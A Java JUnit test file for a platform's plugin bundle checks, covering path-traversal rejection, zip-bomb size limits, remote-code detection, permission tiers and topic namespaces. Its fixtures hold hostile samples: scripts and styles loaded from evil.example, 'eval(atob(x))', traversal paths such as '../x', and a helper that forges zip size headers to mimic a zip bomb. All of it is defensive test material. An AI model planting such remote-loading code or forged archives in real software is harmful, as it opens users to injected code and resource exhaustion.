package io.openlive.engine.platform;

import org.junit.jupiter.api.Test;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

class BundleTest {
    private static final String MANIFEST = """
            {"id":"acme.poll","name":"Poll","version":"1.0.0","kind":"component","entry":"index.html","slot":"bottom",
             "permissions":["room:read"],"topics":{"subscribe":["comment","acme.poll.vote"],"emit":["acme.poll.vote"]}}""";

    static byte[] zip(Map<String, String> files) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipOutputStream z = new ZipOutputStream(out)) {
            for (var e : files.entrySet()) {
                z.putNextEntry(new ZipEntry(e.getKey()));
                z.write(e.getValue().getBytes(StandardCharsets.UTF_8));
                z.closeEntry();
            }
        }
        return out.toByteArray();
    }

    static Map<String, String> sound() {
        Map<String, String> f = new LinkedHashMap<>();
        f.put("manifest.json", MANIFEST);
        f.put("index.html", "<script type=module src=main.js></script>");
        f.put("main.js", "import { attachEmitter } from '/sdk/component.js';");
        return f;
    }

    @Test
    void aSoundBundlePassesEveryOfflineCheck() throws IOException {
        Bundle b = Bundle.read(zip(sound()), BundleLimits.defaults());
        assertThat(b.manifest().slots()).containsExactly("bottom");
        assertThat(BundleChecks.offline(b, BundleLimits.defaults()).failures()).isEmpty();
    }

    @Test
    void unsafePathsAreRefusedBeforeAnythingIsRead() {
        for (String p : List.of("../x", "a/../../x", "/x", "a\\x", "c:x", "a//x", "./x", "a/./x", "x\0y")) {
            assertThatThrownBy(() -> Bundle.checkPath(p)).as(p).isInstanceOf(PlatformException.class)
                    .extracting(e -> ((PlatformException) e).code()).isEqualTo("BUNDLE_UNSAFE_PATH");
        }
        Bundle.checkPath("assets/img/logo.png");
        Bundle.checkPath("dir/");
    }

    @Test
    void unpackingStopsAtTheLimitWhateverTheHeadersClaim() throws IOException {
        Map<String, String> f = sound();
        f.put("big.txt", "a".repeat(3 << 20));
        BundleLimits limits = new BundleLimits(1 << 20, 2 << 20, 10, 1 << 20, 1 << 20);
        byte[] forged = claimSmallSizes(zip(f), 100);
        assertThat(forged).as("the headers were forged").isNotEqualTo(zip(f));
        assertThatThrownBy(() -> Bundle.read(forged, limits)).isInstanceOf(PlatformException.class)
                .hasMessageContaining("unpacks to more than");
    }

    /**
     * A zip bomb's trick: every size field that says more than a megabyte now says {@code claimed} — in the data
     * descriptors (APPNOTE 4.3.9: signature 0x08074b50, CRC, compressed size, uncompressed size) and the central
     * directory (4.3.12: uncompressed size at offset 24). The deflated data still inflates to the full size.
     */
    private static byte[] claimSmallSizes(byte[] zip, int claimed) {
        java.nio.ByteBuffer b = java.nio.ByteBuffer.wrap(zip.clone()).order(java.nio.ByteOrder.LITTLE_ENDIAN);
        for (int i = 0; i + 28 <= zip.length; i++) {
            int signature = b.getInt(i);
            if (signature == 0x08074b50 && b.getInt(i + 12) > (1 << 20)) {
                b.putInt(i + 12, claimed);
            } else if (signature == 0x02014b50 && b.getInt(i + 24) > (1 << 20)) {
                b.putInt(i + 24, claimed);
            }
        }
        return b.array();
    }

    @Test
    void remoteCodeIsFoundInMarkupScriptsAndStyles() throws IOException {
        Map<String, String> f = sound();
        f.put("a.html", "<p>\n<script\n  src='//evil.example/x.js'></script>");
        f.put("b.js", "const m = await import(\"https://evil.example/m.js\");");
        f.put("c.css", "@import url(https://evil.example/s.css);");
        f.put("d.js", "eval(atob(x))");
        f.put("ok.js", "// see https://example.com for docs\nfetch('/api/v1/me')");
        CheckReport r = BundleChecks.offline(Bundle.read(zip(f), BundleLimits.defaults()), BundleLimits.defaults());
        assertThat(r.failures()).containsExactlyInAnyOrder(
                "remote-code: a.html:2: loads code or styles from //evil.example/x.js",
                "remote-code: b.js:1: loads code or styles from https://evil.example/m.js",
                "remote-code: c.css:1: loads code or styles from https://evil.example/s.css",
                "remote-code: d.js:1: evaluates strings as code");
    }

    @Test
    void permissionsFollowTheTier() throws IOException {
        Manifest m = Manifest.parse(MANIFEST.replace("\"room:read\"", "\"room:read\",\"product:pin\",\"user:profile\"").getBytes(StandardCharsets.UTF_8));
        assertThat(BundleChecks.permissions(m, Tier.THIRD_PARTY).reasons()).containsExactly("permission product:pin is not available to third-party developers");
        assertThat(BundleChecks.permissions(m, Tier.SECOND_PARTY).passed()).isTrue();
        assertThat(Permission.access("user:profile", Tier.THIRD_PARTY)).contains(Permission.Access.CONSENT);
    }

    @Test
    void topicsStayInTheComponentsNamespace() {
        Manifest m = Manifest.parse(MANIFEST.replace("\"emit\":[\"acme.poll.vote\"]", "\"emit\":[\"acme.pollster.x\",\"comment\"]")
                .getBytes(StandardCharsets.UTF_8));
        assertThat(BundleChecks.topics(m).reasons()).containsExactly(
                "emits 'acme.pollster.x' outside its namespace acme.poll.*", "emits 'comment' outside its namespace acme.poll.*");
    }
}
